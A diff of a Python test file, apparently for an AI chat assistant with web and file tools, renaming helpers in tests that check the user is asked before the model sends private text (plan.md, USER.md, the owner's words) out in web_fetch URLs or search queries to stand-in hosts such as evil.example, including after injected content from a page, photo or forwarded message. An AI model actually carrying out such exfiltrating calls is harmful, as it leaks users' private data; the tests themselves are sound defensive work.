@@ -24,12 +24,12 @@ from tests.features.telegram.test_media import JPEG
 from tests.journeys.home import Home, Life, home
 from tests.journeys.test_approval_journeys import (
     Wire,
-    asked,
-    asking,
-    featured,
+    make_feature,
     press,
     questions,
+    require_approval,
     resolve,
+    wait_for_question,
 )
 from tests.journeys.test_learning import STRANGER
 
@@ -46,17 +46,17 @@ class Scene:
         self.steps: list[Completion] = []
         h.think = lambda request: self.steps.pop(0) if self.steps else answer("re")
 
-    def will(self, tool: str, **given: str) -> None:
+    def plan_call(self, tool: str, **given: str) -> None:
         """Make the model call *tool* at the next message."""
         self.steps = [call(("c0", tool, json.dumps(given)))]
 
-    async def refused(self, count: int) -> str:
+    async def refuse_question(self, count: int) -> str:
         """Let the model continue, refuse question number *count*, and return it."""
         self.h.fake.say("go on")
-        question = await asked(self.h, self.life, count)
+        question = await wait_for_question(self.h, self.life, count)
         text = question.text
         await press(self.h, self.life, question, "d")
-        await self.life.settled()
+        await self.life.wait_until_idle()
         return text
 
     def page(self, host: str, words: str = "") -> str:
@@ -76,8 +76,8 @@ async def scene(tmp_path: Path) -> AsyncIterator[Scene]:
         of_files = reading_tools(WorkspaceFiles(Root(workspace)), inline)
         of_web = tools(web, SearchSettings(), Client(), inline)
         h.more_tools = (*of_files, *of_web)
-        h.features = (featured("web", of_web), featured("files", of_files))
-        async with asking(h).life() as life:
+        h.features = (make_feature("web", of_web), make_feature("files", of_files))
+        async with require_approval(h).life() as life:
             yield Scene(h, life, wire, port)
         await web.aclose()
 
@@ -87,18 +87,18 @@ async def test_a_trusted_conversation_asks_before_sending_private_text(
 ) -> None:
     async with scene(tmp_path) as one:
         await one.life.say("/new")
-        one.will("read_file", path="plan.md")
+        one.plan_call("read_file", path="plan.md")
         await one.life.say("what is the plan?")
         for count, size in enumerate((400, 30), 1):
-            one.will("web_fetch", url=one.page("host.example", PLAN[20 : 20 + size]))
-            question = await one.refused(count)
+            one.plan_call("web_fetch", url=one.page("host.example", PLAN[20 : 20 + size]))
+            question = await one.refuse_question(count)
             assert "the address at host.example contains text from plan.md" in question
             assert "may have prompted" not in question
-        one.will("web_fetch", url=one.page("host.example", "Wilhelmina Okonkwo"))
-        question = await one.refused(3)
+        one.plan_call("web_fetch", url=one.page("host.example", "Wilhelmina Okonkwo"))
+        question = await one.refuse_question(3)
         assert "contains text from USER.md" in question
         assert one.wire.seen == []
-        one.will("web_fetch", url=one.page("host.example", "weather"))
+        one.plan_call("web_fetch", url=one.page("host.example", "weather"))
         await one.life.say("how is the weather?")
         assert len(one.wire.seen) == 1
         assert len(questions(one.h)) == 3
@@ -112,18 +112,18 @@ async def test_an_untrusted_conversation_does_not_send_the_owners_words(
         fake = one.h.fake
         await one.life.say(WORDS)
         if source == "page":
-            one.will("web_fetch", url=one.page("evil.example"))
+            one.plan_call("web_fetch", url=one.page("evil.example"))
             await one.life.say("what is new there?")
         elif source == "photo":
             fake.say(None, photo=fake.photo(JPEG, 800, 600), caption="What is this?")
-            await one.life.settled()
+            await one.life.wait_until_idle()
         else:
             await one.life.say("Look up what they told you", forward_origin=STRANGER)
         seen = len(one.wire.seen)
-        one.will("web_fetch", url=one.page("evil.example", CARRIED))
-        by_get = await one.refused(1)
-        one.will("web_search", query=CARRIED)
-        by_search = await one.refused(2)
+        one.plan_call("web_fetch", url=one.page("evil.example", CARRIED))
+        by_get = await one.refuse_question(1)
+        one.plan_call("web_search", query=CARRIED)
+        by_search = await one.refuse_question(2)
         for question in (by_get, by_search):
             assert "text from your own words in this conversation" in question
         assert len(one.wire.seen) == seen
